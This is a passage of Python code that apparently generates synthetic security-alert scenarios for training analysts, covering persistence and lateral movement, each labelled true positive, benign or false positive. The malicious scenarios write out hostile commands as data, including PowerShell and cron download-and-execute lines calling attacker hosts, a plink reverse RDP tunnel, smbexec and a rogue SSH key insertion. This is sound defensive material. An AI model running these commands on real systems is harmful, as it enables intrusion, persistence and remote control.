            {"EventID": 7045, "Channel": "System", "Computer": host + "." + AD_DOMAIN, "ServiceName": name,
             "ImagePath": '"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe" /svc', "StartType": "auto start",
             "AccountName": "LocalSystem", "TimeCreated": "__T__"}, ents={"hosts": [host]}, asset=("corporate", "low", "corp-it"))
    notes = pick([
        "%s on %s is Edge's updater registering a versioned service with a hex suffix, which trips the entropy check. Binary is Microsoft-signed in its standard path." % (name, host),
        "Random-looking name %s, but ImagePath is MicrosoftEdgeUpdate.exe /svc and the signature is valid. Excluded that signer+path." % name,
    ])
    return out("EdgeUpdate service %s flagged as random on %s" % (name, host), "informational", ["T1543.003"], notes, [])


@scenario("rb-scheduled-task", "true_positive")
def schtask_remote(c):
    host = c.winsrv()
    src = c.ws()
    u = c.person()
    tn = pick(["\\Microsoft\\Windows\\UpdateOrchestrator\\UpdateModel", "\\GoogleUpdateTaskMachineQA", "\\OneDrive Reporting Task-S-1-5-21"])
    act = "C:\\ProgramData\\%s\\%s.exe" % (pick(["Oracle", "USOShared", "Packages"]), alnum(6))
    c.alert("windows-security", "Scheduled task created remotely", "high",
            winsec(4698, host, SubjectUserName=u.sam, SubjectDomainName=NETBIOS, TaskName=tn,
                   TaskContent="<Task><Triggers><BootTrigger/></Triggers><Principals><Principal><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals><Actions><Exec><Command>%s</Command></Exec></Actions></Task>" % act,
                   ClientProcessId=rng.randint(100, 9000), RpcCallClientLocality=0, FQDN=src),
            ents={"hosts": [host, src], "users": [u.win], "files": [act]}, asset=("production", "high", c.team()))
    notes = pick([
        "Task %s (masquerading as a Windows/vendor task) created over RPC from %s by %s, running %s at boot as SYSTEM. Binary is a loader. Task and binary removed, both hosts isolated, %s's creds reset." % (tn, src, u.sam, act, u.sam),
        "Remote schtasks persistence on %s from %s. Confirmed malicious; contained." % (host, src),
    ])
    return out("Masquerading scheduled task on %s" % host, "high", ["T1053.005", "T1036.004"], notes,
               ["isolate_host", "reset_password", "collect_forensics"])


@scenario("rb-scheduled-task", "true_positive")
def schtask_user_ps(c):
    u = c.person()
    host = c.ws()
    c.alert("sysmon", "schtasks creating task that runs hidden PowerShell", "high",
            sysmon1(host, u.win, "C:\\Windows\\System32\\schtasks.exe",
                    'schtasks /create /sc minute /mo 15 /tn "MicrosoftEdgeUpdateCore" /tr "powershell -w hidden -c iwr https://%s/p -UseBasicParsing|iex" /f' % evil_domain(),
                    PS), ents={"hosts": [host], "users": [u.win]}, asset=("corporate", "medium", c.team()))
    notes = pick([
        "Every-15-minute task polling a URL and executing the response, created by a PowerShell stager on %s after the user ran a fake browser update. Removed, isolated, domain blocked." % host,
        "User-level persistence on %s via schtasks named like Edge update. Malicious polling loop. Contained; %s informed." % (host, u.name),
    ])
    return out("Hidden PowerShell scheduled task on %s" % host, "high", ["T1053.005", "T1059.001"], notes,
               ["isolate_host", "block_indicator", "kill_process"])


@scenario("rb-scheduled-task", "benign")
def schtask_backup_script(c):
    host = c.winsrv(pick(["FS", "SQL"]))
    u = c.person()
    task = "\\Ops\\Nightly-%s" % pick(["DB-Backup", "Log-Rotate", "Share-Report"])
    ch = chg()
    c.alert("windows-security", "Scheduled task created", "low",
            winsec(4698, host, SubjectUserName=u.sam + "-adm", TaskName=task,
                   TaskContent="<Actions><Exec><Command>powershell.exe</Command><Arguments>-File D:\\Ops\\Scripts\\nightly.ps1</Arguments></Exec></Actions>"),
            ents={"hosts": [host], "users": [NETBIOS + "\\" + u.sam + "-adm"]}, asset=("production", "medium", "sre"))
    notes = pick([
        "%s-adm created %s on %s as described in %s; nightly.ps1 is in the ops repo and Authenticode-signed." % (u.sam, task, host, ch),
        "Ops maintenance task %s by %s on %s, matches the change record. Expected." % (task, u.name, host),
    ])
    return out("Ops task %s on %s" % (task.split("\\")[-1], host), "informational", ["T1053.005"], notes, [])


@scenario("rb-scheduled-task", "false_positive")
def schtask_vendor(c):
    host = c.ws()
    c.alert("sysmon", "schtasks creating task with suspicious name", "medium",
            sysmon1(host, "NT AUTHORITY\\SYSTEM", "C:\\Windows\\System32\\schtasks.exe",
                    'schtasks /create /tn "Adobe Acrobat Update Task" /xml "C:\\Windows\\Temp\\%s.xml" /f' % guid(),
                    "C:\\Windows\\System32\\msiexec.exe", integrity="System"), ents={"hosts": [host]}, asset=("corporate", "low", "corp-it"))
    notes = pick([
        "Acrobat installer on %s recreating its update task from a GUID-named XML in Temp; the rule flags XML from Temp. msiexec parent, Adobe patch window." % host,
        "Vendor update task recreated during the Adobe rollout on %s. FP, tuned for msiexec parents." % host,
    ])
    return out("Acrobat update task recreated on %s" % host, "informational", ["T1053.005"], notes, [])


@scenario("rb-registry-run-key", "true_positive")
def runkey_appdata(c):
    u = c.person()
    host = c.ws()
    exe = "C:\\Users\\%s\\AppData\\Roaming\\%s\\%s.exe" % (u.sam, pick(["Microsoft\\Teams", "Adobe", "Zoom"]), pick(["update", "teams_helper", "zoomsvc"]))
    c.alert("sysmon", "Run key points to executable in AppData", "high",
            sysmon13(host, u.win, "C:\\Users\\%s\\Downloads\\setup_%s.exe" % (u.sam, alnum(4)),
                     "HKU\\S-1-5-21-%d-%d-%d-%d\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\%s" % (rng.randint(10 ** 9, 4 * 10 ** 9), rng.randint(10 ** 9, 4 * 10 ** 9), rng.randint(10 ** 9, 4 * 10 ** 9), rng.randint(1100, 9000), pick(["TeamsHelper", "AdobeSync", "ZoomLauncher"])),
                     exe), ents={"hosts": [host], "users": [u.win], "files": [exe]}, asset=("corporate", "medium", c.team()))
    notes = pick([
        "Run value added by a downloaded 'setup' exe pointing to %s, which is unsigned and not Teams/Adobe/Zoom despite the folder. It's an infostealer with a persistence module. Host reimaged, user's saved credentials and sessions reset." % exe,
        "Fake-updater persistence in HKCU Run on %s. Malware confirmed in sandbox. Contained and cleaned." % host,
    ])
    return out("Run key persistence to fake helper on %s" % host, "high", ["T1547.001", "T1036.005"], notes,
               ["isolate_host", "reset_password", "revoke_sessions", "collect_forensics"])


@scenario("rb-registry-run-key", "true_positive")
def startup_folder_lnk(c):
    u = c.person()
    host = c.ws()
    lnk = "C:\\Users\\%s\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\%s.lnk" % (u.sam, pick(["OneNote", "Outlook", "Security"]))
    c.alert("sysmon", "LNK dropped in Startup folder by script host", "high",
            sysmon11(host, u.win, "C:\\Windows\\System32\\wscript.exe", lnk), ents={"hosts": [host], "users": [u.win], "files": [lnk]},
            asset=("corporate", "medium", c.team()))
    notes = pick([
        "wscript dropped %s into the user's Startup folder; the shortcut target runs a JS file from AppData. Initial access via the smuggled ZIP from the same morning. Cleaned and reimaged." % lnk.split("\\")[-1],
        "Startup LNK persistence written by wscript on %s. Malicious. Contained." % host,
    ])
    return out("Startup folder LNK from wscript on %s" % host, "high", ["T1547.001", "T1059.007"], notes,
               ["isolate_host", "collect_forensics", "block_indicator"])


@scenario("rb-registry-run-key", "benign")
def runkey_software(c):
    u = c.person()
    host = c.ws()
    app = pick([("Slack", "C:\\Users\\%s\\AppData\\Local\\slack\\slack.exe --process-start-args --startup"),
                ("Spotify", "C:\\Users\\%s\\AppData\\Roaming\\Spotify\\Spotify.exe /minimized"),
                ("GoogleDriveFS", "\"C:\\Program Files\\Google\\Drive File Stream\\launch.bat\"")])
    val = app[1] % u.sam if "%s" in app[1] else app[1]
    c.alert("sysmon", "Run key points to executable in AppData", "medium",
            sysmon13(host, u.win, val.split(" ")[0].strip('"'), "HKU\\...\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\%s" % app[0], val),
            ents={"hosts": [host], "users": [u.win]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "%s's %s client on %s registering itself to start at logon; binary signed by the vendor, per-user install in AppData is how that app installs." % (u.sam, app[0], host),
        "%s autostart for %s on %s. Known publisher, signature valid, installed from the company portal." % (app[0], u.win, host),
    ])
    return out("%s autostart for %s on %s" % (app[0], u.sam, host), "informational", ["T1547.001"], notes, [])


@scenario("rb-registry-run-key", "false_positive")
def runkey_gpo(c):
    host = c.ws()
    c.alert("sysmon", "Run key modified in HKLM", "medium",
            sysmon13(host, "NT AUTHORITY\\SYSTEM", "C:\\Windows\\system32\\svchost.exe",
                     "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\CorpWallpaper", "C:\\Program Files\\Corp\\BGInfo\\Bginfo64.exe /timer:0 /silent"),
            ents={"hosts": [host]}, asset=("corporate", "low", "corp-it"))
    notes = pick([
        "svchost (Group Policy client) on %s rewriting the CorpWallpaper Run value for BGInfo at every policy refresh. Same value, same signed binary." % host,
        "BGInfo autostart from the workstation baseline GPO on %s; the rule didn't dedupe unchanged values. Dedupe added." % host,
    ])
    return out("GPO BGInfo run value on %s" % host, "informational", ["T1547.001"], notes, [])


@scenario("rb-cron-persistence", "true_positive")
def cron_miner(c):
    host = c.lnx()
    ip = ext_ip()
    line = "*/5 * * * * (curl -fsSL http://%s/cr.sh || wget -q -O- http://%s/cr.sh) | sh > /dev/null 2>&1" % (ip, ip)
    c.alert("auditd", "Crontab modified with download command", "high",
            auditd(host, "PATH", "/usr/bin/crontab", "crontab", ["crontab", "-"], auid="4294967295", uid="0", key="cron_mod", tty="(none)"),
            ents={"hosts": [host], "ips": [ip]}, asset=("production", "medium", c.team()))
    c.alert("falco", "Cron entry fetches remote script", "high",
            falco("Schedule Cron Jobs", "Warning", "Cron file modified (file=/var/spool/cron/crontabs/root line=%s)" % line,
                  {"fd.name": "/var/spool/cron/crontabs/root", "proc.cmdline": "crontab -", "proc.pname": "bash", "k8s.node.name": host}),
            off=0.1, ents={"hosts": [host]}, asset=("production", "medium", c.team()))
    notes = pick([
        "Root crontab on %s now fetches cr.sh from %s every five minutes (curl||wget fallback, output discarded); the script installs a miner and kills competing ones. Entry came in via an exposed Redis (no auth) writing the crontab. Removed the line, bound Redis to localhost, rebuilt the host." % (host, ip),
        "Miner persistence through root cron on %s. IOC %s blocked; host replaced." % (host, ip),
    ])
    return out("Root cron fetching remote script on %s" % host, "high", ["T1053.003", "T1105", "T1496.001"], notes,
               ["isolate_host", "block_indicator", "collect_forensics"])


@scenario("rb-cron-persistence", "true_positive")
def cron_user_revshell(c):
    host = c.lnx()
    user = pick(["postgres", "jenkins", "tomcat", "elastic"])
    c.alert("auditd", "Crontab for service user contains network redirection", "high",
            auditd(host, "EXECVE", "/usr/bin/crontab", "crontab", ["crontab", "/tmp/.c"], auid="4294967295", uid=str(rng.randint(100, 999)), key="cron_mod", tty="(none)"),
            ents={"hosts": [host], "service_accounts": [user]}, asset=("production", "high", c.team()))
    notes = pick([
        "crontab for %s loaded from /tmp/.c containing a nightly /dev/tcp callback. %s has no business running cron. Came from the same RCE as the curl|bash alert on this host. Cleaned and rebuilt." % (user, user),
        "Reverse-shell cron for service user %s on %s. Malicious. Contained." % (user, host),
    ])
    return out("Reverse-shell cron for %s on %s" % (user, host), "high", ["T1053.003", "T1059.004"], notes,
               ["isolate_host", "kill_process", "collect_forensics"])


@scenario("rb-cron-persistence", "benign")
def cron_config_mgmt(c):
    host = c.lnx()
    job = pick(["logrotate-app", "certbot-renew", "tmp-cleaner"])
    c.alert("auditd", "Cron file modified", "low",
            auditd(host, "PATH", "/usr/bin/python3", "ansible-playboo", ["/usr/bin/python3", "/root/.ansible/tmp/AnsiballZ_cron.py"], auid="1001", uid="0", key="cron_mod"),
            ents={"hosts": [host], "service_accounts": ["ansible"], "files": ["/etc/cron.d/" + job]}, asset=("production", "low", "platform-eng"))
    notes = pick([
        "Ansible cron module (AnsiballZ_cron.py, auid 1001 = ansible) wrote /etc/cron.d/%s on %s during the baseline role run from AWX." % (job, host),
        "/etc/cron.d/%s on %s comes from the platform baseline role; the AWX job log shows the change at the same minute." % (job, host),
    ])
    return out("Ansible wrote /etc/cron.d/%s on %s" % (job, host), "informational", ["T1053.003"], notes, [])


@scenario("rb-cron-persistence", "false_positive")
def cron_pkg_install(c):
    host = c.lnx()
    pkg = pick([("sysstat", "sysstat_12.5.2-2ubuntu0.2_amd64.deb"), ("certbot", "certbot_2.9.0-1_all.deb"), ("popularity-contest", "popularity-contest_1.76ubuntu1_all.deb")])
    c.alert("auditd", "Cron file created in /etc/cron.d", "low",
            auditd(host, "PATH", "/usr/bin/dpkg", "dpkg", ["dpkg", "--unpack", pkg[1]], auid="4294967295", uid="0", key="cron_mod", tty="(none)"),
            ents={"hosts": [host], "files": ["/etc/cron.d/" + pkg[0]]}, asset=("production", "low", "sre"))
    notes = pick([
        "/etc/cron.d/%s on %s was created by dpkg unpacking %s during unattended-upgrades; dpkg -S confirms the package owns it." % (pkg[0], host, pkg[1]),
        "Package-owned cron file from %s on %s. FP; files owned by dpkg are now excluded." % (pkg[0], host),
    ])
    return out("%s package cron file on %s" % (pkg[0], host), "informational", ["T1053.003"], notes, [])


@scenario("rb-systemd-persistence", "true_positive")
def systemd_backdoor(c):
    host = c.lnx()
    unit = pick(["systemd-journald-helper.service", "dbus-org.update.service", "network-sync.service"])
    c.alert("auditd", "New systemd unit written by non-package process", "high",
            auditd(host, "PATH", "/usr/bin/bash", "bash", ["bash", "-c", "cat > /etc/systemd/system/%s" % unit], auid=str(rng.randint(1000, 1100)), uid="0", key="systemd_unit"),
            ents={"hosts": [host], "files": ["/etc/systemd/system/" + unit]}, asset=("production", "high", c.team()))
    c.alert("auditd", "systemctl enable of new unit", "high",
            auditd(host, "EXECVE", "/usr/bin/systemctl", "systemctl", ["systemctl", "enable", "--now", unit], auid=str(rng.randint(1000, 1100)), uid="0", key="systemd_exec"),
            off=0.2, ents={"hosts": [host]}, asset=("production", "high", c.team()))
    notes = pick([
        "%s (named to blend with systemd) runs /usr/lib/.cache/ld-linux with Restart=always; written by bash, not a package manager, from a sudo session of a compromised developer account. Unit disabled and removed, host isolated and rebuilt." % unit,
        "Backdoor service %s on %s. ExecStart points to a hidden binary that beacons out. Contained." % (unit, host),
    ])
    return out("Masquerading systemd unit %s on %s" % (unit, host), "high", ["T1543.002", "T1036.004"], notes,
               ["isolate_host", "kill_process", "collect_forensics", "disable_account"])


@scenario("rb-systemd-persistence", "true_positive")
def systemd_user_timer(c):
    host = c.lnx(pick(["dev", "jump", "bastion"]))
    user = c.person()
    c.alert("auditd", "User-level systemd timer created", "medium",
            auditd(host, "PATH", "/usr/bin/bash", "bash", ["bash", "-c", "mkdir -p ~/.config/systemd/user && cp t.timer t.service ~/.config/systemd/user/"],
                   auid=str(rng.randint(1000, 1100)), uid=str(rng.randint(1000, 1100)), key="systemd_unit"),
            ents={"hosts": [host], "users": [user.sam]}, asset=("production", "medium", "sre"))
    notes = pick([
        "User timer under ~%s/.config/systemd/user runs a SOCKS proxy every boot with linger enabled. %s didn't create it; their SSH key was stolen from a backup. Removed, key revoked, linger disabled." % (user.sam, user.name),
        "Persistent tunnel via user-level systemd timer on %s. Unauthorised. Cleaned up and the user's keys rotated." % host,
    ])
    return out("User systemd timer tunnel on %s" % host, "medium", ["T1543.002", "T1053.006", "T1090"], notes,
               ["kill_process", "rotate_secret", "collect_forensics"])


@scenario("rb-systemd-persistence", "benign")
def systemd_agent(c):
    host = c.lnx()
    unit = pick(["datadog-agent.service", "falcon-sensor.service", "node_exporter.service", "amazon-ssm-agent.service"])
    c.alert("auditd", "New systemd unit enabled", "low",
            auditd(host, "EXECVE", "/usr/bin/systemctl", "systemctl", ["systemctl", "enable", unit], auid="4294967295", uid="0", key="systemd_exec", tty="(none)"),
            ents={"hosts": [host]}, asset=("production", "low", "sre"))
    notes = pick([
        "%s enabled on %s by its package postinst during the AMI bake; unit file is package-owned under /lib/systemd/system." % (unit, host),
        "Agent unit %s on %s comes from a signed package in our mirror. Expected." % (unit, host),
    ])
    return out("%s enabled on %s" % (unit, host), "informational", ["T1543.002"], notes, [])


@scenario("rb-ssh-authorized-keys", "true_positive")
def ssh_key_added(c):
    host = c.lnx()
    user = pick(["root", "ubuntu", "deploy", "ec2-user"])
    ip = ext_ip()
    c.alert("auditd", "authorized_keys modified outside config management", "high",
            auditd(host, "PATH", "/usr/bin/bash", "bash", ["bash", "-c", "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI%s x@x >> ~/.ssh/authorized_keys" % alnum(20)],
                   auid="4294967295", uid="0" if user == "root" else "1000", key="ssh_keys", tty="(none)"),
            ents={"hosts": [host], "users": [user]}, asset=("production", "high", c.team()))
    c.alert("auditd", "SSH login with newly added key from external IP", "high",
            sshd_log(host, "Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:%s" % (user, ip, rng.randint(30000, 60000), alnum(43))),
            off=rng.randint(30, 600), ents={"hosts": [host], "ips": [ip], "users": [user]}, asset=("production", "high", c.team()))
    notes = pick([
        "Key with comment 'x@x' appended to %s's authorized_keys by a process with no login session (auid unset), i.e. from an exploited service; the same key logged in from %s later. Key removed, authorized_keys made immutable via config mgmt, host rebuilt." % (user, ip),
        "Attacker persistence through authorized_keys on %s, used from %s. Contained." % (host, ip),
    ])
    return out("Rogue SSH key for %s on %s" % (user, host), "high", ["T1098.004", "T1021.004"], notes,
               ["isolate_host", "block_indicator", "collect_forensics"])


@scenario("rb-ssh-authorized-keys", "benign")
def ssh_key_onboarding(c):
    host = c.lnx()
    u = c.person()
    pr = rng.randint(300, 2000)
    c.alert("auditd", "authorized_keys modified", "low",
            auditd(host, "PATH", "/usr/bin/python3", "python3", ["/usr/bin/python3", "/root/.ansible/tmp/AnsiballZ_authorized_key.py"], auid="1001", uid="0", key="ssh_keys"),
            ents={"hosts": [host], "users": [u.sam]}, asset=("production", "low", "platform-eng"))
    notes = pick([
        "Ansible authorized_key module on %s adding %s's key after their on-call onboarding PR #%d merged; AWX job ran at the same minute." % (host, u.sam, pr),
        "Key rollout for new SRE %s via the users role (PR #%d) to %s. Expected." % (u.name, pr, host),
    ])
    return out("Key rollout for %s on %s" % (u.sam, host), "informational", ["T1098.004"], notes, [])


@scenario("rb-ssh-authorized-keys", "false_positive")
def ssh_key_cloudinit(c):
    host = c.lnx()
    iid = "i-" + hexs(17)
    c.alert("auditd", "authorized_keys modified outside config management", "medium",
            dict(auditd(host, "PATH", "/usr/bin/python3", "cloud-init", ["/usr/bin/python3", "/usr/bin/cloud-init", "modules", "--mode=config"], auid="4294967295", uid="0", key="ssh_keys", tty="(none)"),
                 instance_id=iid),
            ents={"hosts": [host]}, asset=("production", "low", "sre"))
    notes = pick([
        "cloud-init on %s (%s, launched by the ASG %d seconds earlier) writing the instance key pair at first boot. Added cloud-init to the allowed writers." % (host, iid, rng.randint(30, 90)),
        "First-boot key injection by cloud-init on new instance %s. FP." % host,
    ])
    return out("cloud-init key write on new instance %s" % host, "informational", ["T1098.004"], notes, [])


# ===================================== lateral movement ==============================

@scenario("rb-rdp-lateral-movement", "true_positive")
def rdp_ws_to_servers(c):
    u = c.person()
    src = c.ws()
    sip = int_ip("10.20")
    tgts = [c.winsrv() for _ in range(rng.randint(2, 4))]
    c.alert("windows-security", "RDP logon from workstation to multiple servers", "high",
            winsec(4624, tgts[0], LogonType=10, TargetUserName=u.sam + "-adm", IpAddress=sip, WorkstationName=src,
                   distinct_targets_1h=tgts), ents={"hosts": tgts + [src], "users": [NETBIOS + "\\" + u.sam + "-adm"], "ips": [sip]},
            asset=("production", "high", c.team()))
    c.alert("zeek", "RDP sessions from user subnet to server subnet", "medium",
            dict(zeek_conn(sip, int_ip("10.10"), 3389, rng.randint(200000, 2000000), rng.randint(2000000, 20000000), round(rng.uniform(300, 3000), 2), service="rdp"),
                 cookie=u.sam + "-adm"), off=1, ents={"ips": [sip]}, asset=("production", "high", c.team()))
    notes = pick([
        "%s-adm is only supposed to be used from the PAW, but RDP sessions came from %s (%s) to %s at 02:00 local. The user's normal account had a stealer infection earlier that week. Admin account disabled, sessions logged off, %s isolated." % (u.sam, src, sip, ", ".join(tgts), src),
        "%s-adm RDP'd from %s (%s) to %d servers at night. Tier violation plus odd hours; %s confirmed it wasn't them. Account disabled, %s isolated." % (u.sam, src, sip, len(tgts), u.first, src),
    ])
    return out("RDP hopping from %s using %s-adm" % (src, u.sam), "high", ["T1021.001", "T1078.002"], notes,
               ["disable_account", "isolate_host", "revoke_sessions", "collect_forensics"])


@scenario("rb-rdp-lateral-movement", "true_positive")
def rdp_tunnel_external(c):
    host = c.winsrv()
    ip = ext_ip()
    c.alert("crowdstrike", "RDP over reverse tunnel (plink/ngrok-style)", "high",
            cs(host, "administrator", "RDPTunneling", "Command and Control", "Protocol Tunneling",
               "%s -ssh -R 3390:127.0.0.1:3389 -l tun -pw **** %s -P 443" % (pick(["plink.exe", "svc.exe"]), ip),
               "C:\\Windows\\Temp\\plink.exe", "cmd.exe"), ents={"hosts": [host], "ips": [ip]}, asset=("production", "high", c.team()))
    notes = pick([
        "plink reverse-forwarding local 3389 to %s on 443 from %s gives the attacker RDP from outside without touching the firewall. Killed the process, isolated the host, blocked %s." % (ip, host, ip),
        "RDP exposed via SSH reverse tunnel on %s. Hostile. Contained." % host,
    ])
    return out("RDP reverse tunnel from %s" % host, "high", ["T1021.001", "T1572"], notes,
               ["kill_process", "isolate_host", "block_indicator"])


@scenario("rb-rdp-lateral-movement", "benign")
def rdp_helpdesk(c):
    u = c.person()
    tgt = c.ws()
    jmp = "JMP-HELPDESK-0%d" % rng.randint(1, 3)
    i = inc()
    c.alert("windows-security", "RDP logon to workstation", "low",
            winsec(4624, tgt, LogonType=10, TargetUserName=u.sam + "-adm", IpAddress=int_ip("10.5.1"), WorkstationName=jmp),
            ents={"hosts": [tgt, jmp], "users": [NETBIOS + "\\" + u.sam + "-adm"]}, asset=("corporate", "low", "it-helpdesk"))
    notes = pick([
        "Helpdesk technician %s-adm connected from %s to %s to fix a display driver issue under %s; user was on the call." % (u.sam, jmp, tgt, i),
        "Support RDP to %s from the helpdesk jump host %s, ticket %s. Expected." % (tgt, jmp, i),
    ])
    return out("Helpdesk RDP from %s to %s" % (jmp, tgt), "informational", ["T1021.001"], notes, [])


@scenario("rb-rdp-lateral-movement", "false_positive")
def rdp_vdi(c):
    u = c.person()
    vda = "CTX-VDA-%03d" % rng.randint(1, 120)
    c.alert("windows-security", "RDP logon from unusual source", "medium",
            winsec(4624, vda, LogonType=10, TargetUserName=u.sam, IpAddress=int_ip("10.70"), WorkstationName="CTX-SF01"),
            ents={"users": [u.win], "hosts": [vda]}, asset=("corporate", "low", "corp-it"))
    notes = pick([
        "%s is a Citrix VDA; every brokered desktop session is recorded as LogonType 10 from the gateway subnet. %s was simply opening their virtual desktop. Excluded the VDA catalogue." % (vda, u.win),
        "Session brokering by CTX-SF01 to %s for %s. Not workstation-to-server RDP. FP." % (vda, u.sam),
    ])
    return out("Citrix session on %s logged as RDP for %s" % (vda, u.sam), "informational", ["T1021.001"], notes, [])


@scenario("rb-psexec-smb-lateral", "true_positive")
def psexec_spread(c):
    src = c.winsrv()
    u = c.person()
    tgts = [c.winsrv() for _ in range(rng.randint(3, 6))]
    c.alert("sysmon", "PsExec-style service binary written to ADMIN$", "high",
            sysmon11(tgts[0], "NT AUTHORITY\\SYSTEM", "System", "C:\\Windows\\%s.exe" % alnum(8)),
            ents={"hosts": tgts[:1] + [src], "users": [u.win]}, asset=("production", "high", c.team()))
    c.alert("windows-security", "Same service installed on many hosts within minutes", "critical",
            {"EventID": 7045, "Channel": "System", "Computer": tgts[1] + "." + AD_DOMAIN, "ServiceName": "PSEXESVC",
             "ImagePath": "%SystemRoot%\\PSEXESVC.exe", "AccountName": "LocalSystem", "hosts_in_10m": tgts, "TimeCreated": "__T__"},
            off=2, ents={"hosts": tgts}, asset=("production", "high", c.team()))
    c.alert("zeek", "SMB admin-share writes from one server to many", "high",
            {"_path": "smb_files", "ts": "__TEPOCH__", "id.orig_h": int_ip("10.10"), "id.resp_h": int_ip("10.10"), "action": "SMB::FILE_WRITE",
             "path": "\\\\%s\\ADMIN$" % tgts[-1], "name": "%s.exe" % alnum(8), "size": rng.randint(280000, 420000), "distinct_targets_10m": len(tgts)},
            off=1, ents={"hosts": [src] + tgts[-1:]}, asset=("production", "high", c.team()))
    notes = pick([
        "PsExec from %s to %d servers in ten minutes using %s's DA credentials, copying the same random-named exe to ADMIN$. This is pre-ransomware staging. Isolated all targets and %s, disabled the account, blocked SMB from server VLAN to server VLAN temporarily." % (src, len(tgts), u.sam, src),
        "SMB admin-share lateral spread from %s: %s. Contained; binary is a Cobalt Strike service exe." % (src, ", ".join(tgts)),
    ])
    return out("PsExec spread from %s to %d servers" % (src, len(tgts)), "critical", ["T1021.002", "T1569.002", "T1570"], notes,
               ["isolate_host", "disable_account", "block_indicator", "collect_forensics"])


@scenario("rb-psexec-smb-lateral", "true_positive")
def smbexec_impacket(c):
    tgt = c.winsrv()
    ip = int_ip("10.60")
    c.alert("windows-security", "Service with cmd /Q /c echo pattern (smbexec)", "critical",
            {"EventID": 7045, "Channel": "System", "Computer": tgt + "." + AD_DOMAIN, "ServiceName": "BTOBTO",
             "ImagePath": "%COMSPEC% /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat & del %TEMP%\\execute.bat",
             "AccountName": "LocalSystem", "TimeCreated": "__T__"}, ents={"hosts": [tgt], "ips": [ip]}, asset=("production", "high", c.team()))
    notes = pick([
        "smbexec pattern (execute.bat echo / __output) on %s; source %s is an unmanaged Linux box on the dev VLAN. Isolated both, reset the admin hash used." % (tgt, ip),
        "Impacket smbexec service on %s. Confirmed hostile from %s. Contained." % (tgt, ip),
    ])
    return out("smbexec service on %s" % tgt, "critical", ["T1021.002", "T1569.002", "T1543.003"], notes,
               ["isolate_host", "rotate_secret", "collect_forensics"])


@scenario("rb-psexec-smb-lateral", "benign")
def psexec_sccm_admin(c):
    u = c.person()
    src = pick(["JMP-SYSADM-01", "JMP-SYSADM-02", "PAW-" + u.sam.upper()])
    tgt = c.winsrv()
    c.alert("windows-security", "PsExec service installed", "medium",
            {"EventID": 7045, "Channel": "System", "Computer": tgt + "." + AD_DOMAIN, "ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe", "TimeCreated": "__T__"},
            ents={"hosts": [tgt, src], "users": [NETBIOS + "\\" + u.sam + "-adm"]}, asset=("production", "medium", "corp-it"))
    notes = pick([
        "Sysadmin %s used PsExec from %s to restart a hung service on %s during %s. Single target, admin jump host, ticketed. Benign." % (u.name, src, tgt, inc()),
        "Admin PsExec from jump host %s for a break/fix. Expected." % src,
    ])
    return out("Admin PsExec from %s to %s" % (src, tgt), "informational", ["T1569.002"], notes, [])


@scenario("rb-psexec-smb-lateral", "false_positive")
def smb_admin_share_backup(c):
    tgt = c.winsrv()
    proxy_ip = int_ip("10.10.9")
    c.alert("zeek", "Write to ADMIN$ share from non-admin host", "medium",
            {"_path": "smb_files", "ts": "__TEPOCH__", "id.orig_h": proxy_ip, "id.resp_h": int_ip("10.10"), "action": "SMB::FILE_WRITE",
             "path": "\\\\%s\\ADMIN$" % tgt, "name": "Temp\\VeeamGuestHelper.exe", "size": rng.randint(100000, 900000)},
            ents={"hosts": [tgt], "ips": [proxy_ip]}, asset=("production", "low", "sre"))
    notes = pick([
        "%s is a Veeam backup proxy; application-aware processing copies VeeamGuestHelper.exe to ADMIN$ on %s before each job and removes it afterwards. Matches the 22:00 job start." % (proxy_ip, tgt),
        "VeeamGuestHelper pushed to \\\\%s\\ADMIN$ by the backup proxy %s. Normal. Veeam proxies excluded from the rule." % (tgt, proxy_ip),
    ])
    return out("Veeam guest helper pushed to %s" % tgt, "informational", ["T1021.002"], notes, [])


@scenario("rb-winrm-lateral", "true_positive")
def winrm_spread(c):
    u = c.person()
    src = c.ws()
    tgt = c.winsrv()
    c.alert("sysmon", "wsmprovhost spawned suspicious child", "high",
            sysmon1(tgt, u.win, PS, "powershell.exe -nop -c \"Invoke-WebRequest -Uri http://%s/a.exe -OutFile C:\\Windows\\Temp\\a.exe; Start-Process C:\\Windows\\Temp\\a.exe\"" % ext_ip(),
                    "C:\\Windows\\System32\\wsmprovhost.exe"), ents={"hosts": [tgt, src], "users": [u.win]}, asset=("production", "high", c.team()))
    c.alert("windows-security", "WinRM network logon from workstation", "medium",
            winsec(4624, tgt, LogonType=3, TargetUserName=u.sam, IpAddress=int_ip("10.20"), WorkstationName=src, AuthenticationPackageName="Kerberos", LogonProcessName="Kerberos"),
            off=-0.2, ents={"hosts": [tgt, src], "users": [u.win]}, asset=("production", "high", c.team()))
    notes = pick([
        "Remote PowerShell from %s into %s as %s, then a download-and-run of a.exe under wsmprovhost. The user never uses remoting. Blocked, isolated both hosts, account reset." % (src, tgt, u.sam),
        "WinRM used to stage a payload on %s from %s. Hostile; contained." % (tgt, src),
    ])
    return out("WinRM payload staging on %s from %s" % (tgt, src), "high", ["T1021.006", "T1105", "T1059.001"], notes,
               ["isolate_host", "reset_password", "block_indicator", "collect_forensics"])


@scenario("rb-winrm-lateral", "benign")
def winrm_ansible(c):
    tgt = c.winsrv()
    c.alert("sysmon", "wsmprovhost spawned PowerShell", "low",
            sysmon1(tgt, NETBIOS + "\\svc-ansible-win", PS, "PowerShell -NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand " + b64_utf16("begin { $path = $env:TEMP + '\\ansible-tmp' }"),
                    "C:\\Windows\\System32\\wsmprovhost.exe"), ents={"hosts": [tgt], "service_accounts": ["svc-ansible-win"]},
            asset=("production", "low", "platform-eng"))
    notes = pick([
